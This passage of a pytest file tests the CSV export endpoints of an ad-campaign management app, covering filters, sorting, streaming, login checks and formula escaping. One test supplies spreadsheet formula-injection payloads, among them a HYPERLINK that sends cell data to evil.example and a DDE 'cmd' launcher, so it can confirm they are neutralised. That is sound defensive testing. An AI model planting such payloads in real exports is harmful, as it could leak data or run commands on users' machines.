    rows = as_dicts(read_csv(client.get("/campaigns/export.csv?sort=name&dir=asc")))

    by_name = {row["name"]: row for row in rows}
    # Plain decimals in the currency's minor units: cents for USD and EUR, none for JPY.
    assert {name: row["budget"] for name, row in by_name.items()} == {
        "DIS_US_MULTI_2026_MoanaLaunch": "1500.50",
        "DIS_FR_MULTI_2026_MoanaLaunch": "2000.25",
        "DIS_JP_MULTI_2026_Frozen": "150000",
        "PIX_US_MULTI_2025_ToyStory": "999.50",
        "PIX_FR_MULTI_2026_Cars": "300.00",
        "DIS_PR_MULTI_2026_Encanto": "100.00",
    }
    moana = by_name["DIS_US_MULTI_2026_MoanaLaunch"]
    assert moana == {
        "name": "DIS_US_MULTI_2026_MoanaLaunch",
        "campaign_name": "MoanaLaunch",
        "brand": "Disney",
        "market": "US",
        "currency": "USD",
        "year": "2026",
        "budget": "1500.50",
        "status": "ACTIVE",
        "tickets": "2",
        "tickets_trafficked": "1",
        "created_at": moana["created_at"],
    }
    for row in rows:
        assert ISO_DATETIME.fullmatch(row["created_at"]), row["created_at"]
    assert datetime.fromisoformat(moana["created_at"]) == T0
    assert datetime.fromisoformat(by_name["DIS_PR_MULTI_2026_Encanto"]["created_at"]) == (
        T0 + timedelta(minutes=5)
    )


def test_campaign_csv_follows_the_list_filters(client, viewer, world):
    dis = world["brands"]["dis"]

    rows = as_dicts(read_csv(client.get(f"/campaigns/export.csv?status=ACTIVE&brand={dis.id}")))

    # The list's default order: newest first.
    assert [row["name"] for row in rows] == [
        "DIS_PR_MULTI_2026_Encanto",
        "DIS_FR_MULTI_2026_MoanaLaunch",
        "DIS_US_MULTI_2026_MoanaLaunch",
    ]
    assert {row["status"] for row in rows} == {"ACTIVE"}
    assert {row["brand"] for row in rows} == {"Disney"}


@pytest.mark.parametrize(
    ("query", "names"),
    [
        (
            "sort=name&dir=asc",
            [
                "DIS_FR_MULTI_2026_MoanaLaunch",
                "DIS_JP_MULTI_2026_Frozen",
                "DIS_PR_MULTI_2026_Encanto",
                "DIS_US_MULTI_2026_MoanaLaunch",
                "PIX_FR_MULTI_2026_Cars",
                "PIX_US_MULTI_2025_ToyStory",
            ],
        ),
        (
            "sort=budget&dir=asc&market={us}",
            ["PIX_US_MULTI_2025_ToyStory", "DIS_US_MULTI_2026_MoanaLaunch"],
        ),
        ("year=2025", ["PIX_US_MULTI_2025_ToyStory"]),
        (
            "q=moana&sort=created&dir=asc",
            [
                "DIS_US_MULTI_2026_MoanaLaunch",
                "DIS_FR_MULTI_2026_MoanaLaunch",
            ],
        ),
        ("status=nope&brand=garbage&year=x&sort=evil", None),
    ],
    ids=["name-asc", "budget-asc-market", "year", "search-created-asc", "bad-args-ignored"],
)
def test_campaign_csv_follows_the_list_sort_and_search(client, viewer, world, query, names):
    url = "/campaigns/export.csv?" + query.format(us=world["markets"]["us"].id)

    rows = as_dicts(read_csv(client.get(url)))

    if names is None:  # nonsense arguments are ignored, as on the list itself
        assert len(rows) == 6
    else:
        assert [row["name"] for row in rows] == names


def test_campaign_csv_with_nothing_matching_is_just_the_header(client, viewer, world):
    rows = read_csv(client.get("/campaigns/export.csv?year=2099"))

    assert rows == [CAMPAIGN_HEADER]


@pytest.mark.parametrize(
    "typed",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
    ],
    ids=["equals", "plus", "minus", "at", "tab", "carriage-return"],
)
def test_campaign_csv_neutralises_formulas(
    client, viewer, make_brand, make_market, add_campaign, typed
):
    add_campaign(make_brand(), make_market(), typed, name_part="Formula")

    (row,) = as_dicts(read_csv(client.get("/campaigns/export.csv")))

    assert row["campaign_name"] == "'" + typed
    assert row["name"].endswith("_Formula")


def test_csv_neutralises_formulas_in_reference_data_too(
    client, viewer, make_brand, make_market, add_campaign
):
    add_campaign(make_brand(name="=1+2"), make_market(), "Plain")

    (row,) = as_dicts(read_csv(client.get("/reports/export.csv")))

    assert row["brand"] == "'=1+2"
    assert row["campaign_name"] == "Plain"


def test_ticket_csv_lists_tickets_with_iso_dates_and_decimal_budgets(client, viewer, world):
    response = client.get("/tickets/export.csv")

    rows = read_csv(response)
    assert disposition(response) == 'attachment; filename="tickets.csv"'
    assert rows[0] == TICKET_HEADER
    by_name = {row["platform_name"]: row for row in as_dicts(rows)}
    assert len(by_name) == 5
    meta = by_name["DIS_US_META_2026_MoanaLaunch"]
    assert {k: v for k, v in meta.items() if k != "updated_at"} == {
        "platform_name": "DIS_US_META_2026_MoanaLaunch",
        "campaign": "DIS_US_MULTI_2026_MoanaLaunch",
        "channel": "META",
        "request_type": "CREATE_CAMPAIGN",
        "status": "TRAFFICKED_SUCCESS",
        "external_platform_id": "act_881",
        "budget_type": "DAILY",
        "budget_amount": "1500.50",
        "currency": "USD",
        "flight_start": "2026-03-01",
        "flight_end": "",
        "qa_failure_reason": "",
    }
    jp = by_name["DIS_JP_META_2026_Frozen"]
    assert (jp["budget_amount"], jp["currency"], jp["flight_end"]) == (
        "150000",
        "JPY",
        "2026-06-30",
    )
    assert by_name["DIS_US_GOOG_2026_MoanaLaunch"]["qa_failure_reason"] == "Landing URL is a 404"
    for row in by_name.values():
        assert ISO_DATETIME.fullmatch(row["updated_at"]), row["updated_at"]
        assert datetime.fromisoformat(row["updated_at"]).tzinfo is not None


@pytest.mark.parametrize(
    ("query", "names"),
    [
        ("status=QA_FAILED", ["DIS_US_GOOG_2026_MoanaLaunch"]),
        (
            "status=trafficked_success",
            ["DIS_JP_META_2026_Frozen", "DIS_US_META_2026_MoanaLaunch"],
        ),
        ("brand={pix}", ["PIX_US_GOOG_2025_ToyStory"]),
        ("market={fr}", ["DIS_FR_META_2026_MoanaLaunch"]),
        (
            "channel={goog}",
            ["DIS_US_GOOG_2026_MoanaLaunch", "PIX_US_GOOG_2025_ToyStory"],
        ),
        (
            "campaign={moana_us}",
            ["DIS_US_GOOG_2026_MoanaLaunch", "DIS_US_META_2026_MoanaLaunch"],
        ),
        ("q=US_META", ["DIS_US_META_2026_MoanaLaunch"]),
        ("brand={dis}&channel={meta}&status=DRAFT", ["DIS_FR_META_2026_MoanaLaunch"]),
    ],
    ids=["status", "status-any-case", "brand", "market", "channel", "campaign", "search", "mix"],
)
def test_ticket_csv_follows_the_ticket_list_filters(client, viewer, world, query, names):
    ids = {
        **world["brands"],
        **world["markets"],
        **world["channels"],
        "moana_us": world["campaigns"]["moana_us"],
    }
    url = "/tickets/export.csv?" + query.format(**{k: v.id for k, v in ids.items()})

    rows = as_dicts(read_csv(client.get(url)))

    assert sorted(row["platform_name"] for row in rows) == names


def test_ticket_csv_neutralises_a_formula_in_the_qa_reason(client, viewer, world, db):
    ticket = world["tickets"]["moana_us_goog"]
    ticket.qa_failure_reason = "-1+1"
    world["tickets"]["toy_us_goog"].external_platform_id = "=cmd"
    db.session.commit()

    rows = as_dicts(read_csv(client.get("/tickets/export.csv?channel=" + str(ticket.channel_id))))

    by_name = {row["platform_name"]: row for row in rows}
    assert by_name["DIS_US_GOOG_2026_MoanaLaunch"]["qa_failure_reason"] == "'-1+1"
    assert by_name["PIX_US_GOOG_2025_ToyStory"]["external_platform_id"] == "'=cmd"


def test_portfolio_csv_follows_the_portfolio_filters(client, viewer, world):
    fr = world["markets"]["fr"]

    response = client.get(f"/reports/export.csv?market={fr.id}")

    rows = read_csv(response)
    assert disposition(response) == 'attachment; filename="portfolio.csv"'
    assert rows[0] == CAMPAIGN_HEADER
    body = as_dicts(rows)
    # The portfolio's order: largest budget first.
    assert [(row["name"], row["currency"], row["budget"]) for row in body] == [
        ("DIS_FR_MULTI_2026_MoanaLaunch", "EUR", "2000.25"),
        ("PIX_FR_MULTI_2026_Cars", "EUR", "300.00"),
    ]
    assert [(r["tickets"], r["tickets_trafficked"]) for r in body] == [("1", "0"), ("0", "0")]


def test_portfolio_csv_has_every_row_the_page_leaves_out(
    db, client, viewer, make_brand, make_market, make_channel
):
    bulk_seed(db, [make_brand()], [make_market(currency="USD")], make_channel(), 230, start=0)

    rows = as_dicts(read_csv(client.get("/reports/export.csv")))

    assert len(rows) == 230
    assert [row["budget"] for row in rows[:2]] == ["229.25", "228.25"]
    assert {row["tickets"] for row in rows} == {"2"}


def test_csv_of_many_rows_is_sent_in_chunks(
    db, client, viewer, make_brand, make_market, make_channel
):
    bulk_seed(db, [make_brand()], [make_market()], make_channel(), 1200, start=0)

    response = client.get("/campaigns/export.csv")

    assert response.is_streamed
    chunks = [chunk for chunk in response.response if chunk]
    response.close()
    assert len(chunks) >= 3, "the whole file was built before the first byte was sent"
    assert chunks[0].startswith(BOM)
    assert all(chunk.endswith(b"\r\n") for chunk in chunks), "a row split across chunks"
    data = b"".join(chunks)[len(BOM) :].decode()
    assert len(list(csv.reader(io.StringIO(data, newline="")))) == 1 + 1200


@pytest.mark.parametrize(
    "path", ["/campaigns/export.csv", "/tickets/export.csv", "/reports/export.csv"]
)
def test_csv_exports_need_a_login(client, world, path):
    response = client.get(path)

    assert response.status_code == 302
    assert "/login" in response.headers["Location"]
